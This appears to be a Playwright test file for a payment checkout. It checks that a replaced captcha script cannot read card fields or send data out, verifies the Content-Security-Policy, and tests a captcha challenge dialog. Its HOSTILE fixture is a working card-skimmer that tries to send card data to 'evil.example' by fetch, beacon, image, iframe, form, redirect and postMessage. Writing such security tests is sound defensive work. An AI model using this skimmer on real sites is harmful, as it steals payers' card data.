import type { Page } from '@playwright/test';
import { cards, urls } from './environment';
import { payByCard } from './pages/card-form';
import { expect, test } from './pages/store-page';

const CAPTCHA = '**/captcha/enterprise.js';
const EVIL = 'https://evil.example';

/** A captcha that steals: it reads the card fields, and sends what it finds by each way that a script has. */
const HOSTILE = `(() => {
  const found = {};
  const note = (name, act) => {
    try {
      found[name] = String(act());
    } catch (error) {
      found[name] = error.name;
    }
  };
  const fieldsOf = (scope) => [...scope.document.querySelectorAll('input')].map(({ value }) => value).join();
  const send = (data) => {
    note('fetch', () => void fetch('${EVIL}/fetch', { method: 'POST', body: data }).catch(() => undefined));
    note('beacon', () => navigator.sendBeacon('${EVIL}/beacon', data));
    note('image', () => (new Image().src = '${EVIL}/image?' + data));
    note('frame', () => {
      const frame = document.createElement('iframe');
      frame.hidden = true;
      frame.src = '${EVIL}/frame?' + data;
      document.body.append(frame);
    });
    note('frame in the checkout', () => parent.document.body.append(document.createElement('iframe')));
    note('form', () => {
      const form = document.createElement('form');
      form.action = '${EVIL}/form';
      document.body.append(form);
      form.submit();
    });
    note('top', () => (top.location = '${EVIL}/top?' + data));
    note('parent', () => (parent.location = '${EVIL}/parent?' + data));
    for (const channel of ['istmo-third-party/1', 'istmo-3ds/1', 'penpal'])
      for (const holder of [parent, top])
        holder.postMessage({ channel, event: 'finished', type: 'answer', id: 1, value: data, data }, '*');
  };
  const steal = () => {
    note('own frames', () => frames.length);
    note('checkout', () => fieldsOf(parent));
    note('checkout’s storage', () => parent.localStorage.length);
    note('checkout’s script', () => parent.eval('1'));
    note('store', () => fieldsOf(top));
    send(JSON.stringify(found));
  };
  steal();
  window.found = found;
  window.grecaptcha = {
    enterprise: {
      ready: (go) => go(),
      execute: async (site, { action }) => {
        steal();
        return 'captcha.' + action + '.' + site + '.' + '0'.repeat(32);
      },
    },
  };
})();`;

type Found = Record<string, string>;

const thirdPartyFrames = (page: Page) =>
  page.frames().filter((frame) => new URL(frame.url(), urls.store).pathname === '/third-parties.html');

test('a captcha that was replaced by a thief reads nothing of the card, and sends nothing to its owner', async ({
  page,
  store,
}) => {
  await page.route(CAPTCHA, (route) => route.fulfill({ contentType: 'text/javascript', body: HOSTILE }));
  const arrived: string[] = [];
  await page.context().route(`${EVIL}/**`, (route) => {
    arrived.push(route.request().url());
    return route.fulfill({ body: 'thanks' });
  });
  const sent: string[] = [];
  page.on('request', (request) => sent.push(`${request.url()} ${request.postData() ?? ''}`));
  const checkout = await store.pay();
  await payByCard(checkout, cards.visa);
  // The hostile script answers like a captcha, so the payment continues.
  expect(await store.result()).toMatchObject({ outcome: 'approved', paid: true });

  const found = await Promise.all(
    thirdPartyFrames(page).map((frame) => frame.evaluate(() => (window as { found?: Found }).found)),
  );
  const [attempts = {}] = found.filter((one) => one !== undefined);
  // The hostile script ran, and the browser blocked its access to each of these.
  for (const what of [
    'checkout',
    'checkout’s storage',
    'checkout’s script',
    'store',
    'frame in the checkout',
  ])
    expect([what, attempts[what]]).toEqual([what, 'SecurityError']);
  expect(arrived).toEqual([]);
  const others = sent.filter((request) => !request.startsWith(urls.checkout));
  expect(others.filter((request) => request.includes(cards.visa))).toEqual([]);
});

test('no script of a third party is in the page of the card, whatever the payer does there', async ({
  page,
}) => {
  const response = await page.goto(`${urls.checkout}/?code=LK-CAFE0001`);
  const policy = response?.headers()['content-security-policy'] ?? '';
  const directive = (name: string) => new RegExp(`${name} ([^;]*)`).exec(policy)?.[1];
  expect(directive('script-src')).not.toContain(urls.bank);
  expect(directive('frame-src')).toBe(`'self' ${urls.bank}/third-parties.html`);
  await payByCard(page, cards.visa);
  await expect(page.getByRole('heading', { name: 'Comprobante de pago' })).toBeVisible();
  const scripts = await page.evaluate(() => [...document.scripts].map(({ src }) => src).filter(Boolean));
  expect(scripts.filter((src) => !src.startsWith(urls.checkout))).toEqual([]);
});

/** A captcha that shows a challenge, as real ones do: a box above its page, which exists from the start but is hidden. */
const CHALLENGE = `(() => {
  const box = document.createElement('div');
  box.style.cssText = 'visibility:hidden;position:absolute;top:10px;left:0;right:0;margin:auto;max-width:400px;height:480px;background:#fff';
  box.innerHTML = '<p>Seleccione los semáforos</p><button>Verificar</button>';
  document.body.append(box);
  window.grecaptcha = {
    enterprise: {
      ready: (go) => go(),
      execute: (site, { action }) =>
        new Promise((resolve) => {
          box.style.visibility = 'visible';
          box.querySelector('button').onclick = () => {
            box.style.visibility = 'hidden';
            resolve('captcha.' + action + '.' + site + '.' + 'a'.repeat(32));
          };
        }),
    },
  };
})();`;

test.describe('a challenge', () => {
  test.use({ viewport: { width: 320, height: 640 }, colorScheme: 'dark' });

  test('is shown on a narrow dark screen, waits for the payer, and is done with the keyboard', async ({
    page,
  }) => {
    await page.route(CAPTCHA, (route) => route.fulfill({ contentType: 'text/javascript', body: CHALLENGE }));
    await page.clock.install();
    await page.goto(`${urls.checkout}/?code=LK-CAFE0001`);
    await payByCard(page, cards.visa);
    const dialog = page.getByRole('dialog', { name: 'Verificación de seguridad' });
    await expect(dialog).toBeVisible();
    await expect(dialog).toContainText('nunca se piden los datos de su tarjeta');
    const box = await dialog.boundingBox();
    expect(box && box.x >= 0 && box.x + box.width <= 320 && box.y + box.height <= 640).toBe(true);
    // A payer may take longer than the limit of a captcha without a challenge.
    await page.clock.fastForward(60_000);
    const verify = dialog.frameLocator('iframe').getByRole('button', { name: 'Verificar' });
    await verify.press('Enter');
    await expect(dialog).toBeHidden();
    await expect(page.getByRole('heading', { name: 'Comprobante de pago' })).toBeVisible();
  });

  test('that the payer closes ends like one that is blocked: the provider decides', async ({ page }) => {
    await page.route(CAPTCHA, (route) => route.fulfill({ contentType: 'text/javascript', body: CHALLENGE }));
    await page.goto(`${urls.checkout}/?code=LK-CAFE0001`);
    await payByCard(page, cards.visa);
    const dialog = page.getByRole('dialog', { name: 'Verificación de seguridad' });
    await expect(dialog).toBeVisible();
    await dialog.getByRole('button', { name: 'Cancelar' }).click();
    await expect(dialog).toBeHidden();
    await expect(page.getByRole('heading', { name: 'Comprobante de pago' })).toBeVisible();
  });
});
